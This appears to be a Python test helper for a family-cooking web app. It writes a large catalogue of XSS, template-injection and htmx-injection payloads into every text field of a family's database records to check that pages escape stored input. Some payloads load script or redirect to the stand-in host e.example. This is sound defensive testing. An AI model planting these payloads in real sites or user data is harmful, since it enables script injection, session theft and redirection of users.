"""Hostile text: what people type when they hope that a page runs it."""

import itertools

import peewee

from tests.any_row import all_models

RUN = "alert(1)"
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "a href=x",
    "marquee",
    "object data=x",
)
WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//e.example></script>",
    "<scr<script>ipt>alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}",
    "{{ config }}",
    "{% raw %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "';alert(1);//",
    '";alert(1);//',
    "`-alert(1)-`",
    "\\';alert(1)//",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<base href=//e.example>",
    "<link rel=stylesheet href=//e.example>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
    "<style>@import'//e.example'</style>",
    "<form action=//e.example>",
    "<button formaction=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<svg><script>alert(1)</script>",
    "<svg><use href=data:,x#x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<div hx-get=/x hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<div data-hx-get=/me hx-trigger=load>",
    "<hx-partial hx-target=body><b>x</b></hx-partial>",
    "<input name=key value=x>",
    "<b id=main>x</b>",
    "<style>*{display:none}</style>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<select>",
    "<table>",
    "</main></body></html>",
    "\u2028alert(1)",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "<svg/onload=alert(1)>",
    "<svg\fonload=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
)
PAYLOADS = (
    *WHOLE,
    *(f"<{tag} {handler}={RUN}>" for tag, handler in itertools.product(TAGS, HANDLERS)),
    *(f'"{handler}={RUN} x="' for handler in HANDLERS),
)
KEPT = {
    "locale",
    "timezone",
    "currency",
    "second_factor",
    "needs",
    "kind",
    "stale",
    "subject",
    "state",
    "password_hash",
    "token_hash",
    "small",
    "medium",
    "large",
    "hash",
    "digest",
    "base",
    "track",
    "level",
    "colour",
    "unit",
    "roles",
    "face",
    "pin_hash",
    "prior_hash",
    "actor_roles",
    "role",
    "scale",
    "base_state",
    "date_kind",
    "place",
    "reason",
    "section",
}


def plant(family, turn):
    """Another payload in every text of this family, a different one each turn; returns how many texts there are."""
    numbers = itertools.count(turn * 7)
    return sum(rewrite(row, numbers) for model in all_models() for row in rows(model, family))


def rows(model, family):
    from familychef.families.models import User

    if model is User:
        return [member.user for member in family.active_members() if member.user_id]
    elif model is type(family):
        return [model.get_by_id(family.id)]
    elif "family" in model._meta.fields:
        return list(model.select().where(model.family == family.id))
    else:
        return []


def rewrite(row, numbers):
    from familychef.core.db import database

    changed = 0
    for field in type(row)._meta.sorted_fields:
        value = hostile(field, getattr(row, field.name), numbers)
        if value is not None:
            try:
                with database.atomic():
                    type(row).update({field: value}).where(type(row)._meta.primary_key == row.get_id()).execute()
                changed += 1
            except peewee.IntegrityError:
                pass
    return changed


def hostile(field, value, numbers):
    if field.name in KEPT or field.primary_key or isinstance(field, peewee.ForeignKeyField):
        return None
    elif isinstance(field, peewee.JSONField):
        return inside(value, numbers) if value else None
    elif isinstance(field, (peewee.CharField, peewee.TextField)):
        text = PAYLOADS[next(numbers) % len(PAYLOADS)] + (f" {row_mark(numbers)}" if field.unique else "")
        return text[: getattr(field, "max_length", None) or 500]
    else:
        return None


def row_mark(numbers):
    return next(numbers)


def inside(value, numbers, name=""):
    """The same shape with hostile words in it."""
    if isinstance(value, dict):
        return {key: inside(each, numbers, key) for key, each in value.items()}
    elif isinstance(value, list):
        return [inside(each, numbers, name) for each in value]
    elif isinstance(value, str) and name in ("name", "note", "text", "title", "typed"):
        return PAYLOADS[next(numbers) % len(PAYLOADS)]
    else:
        return value
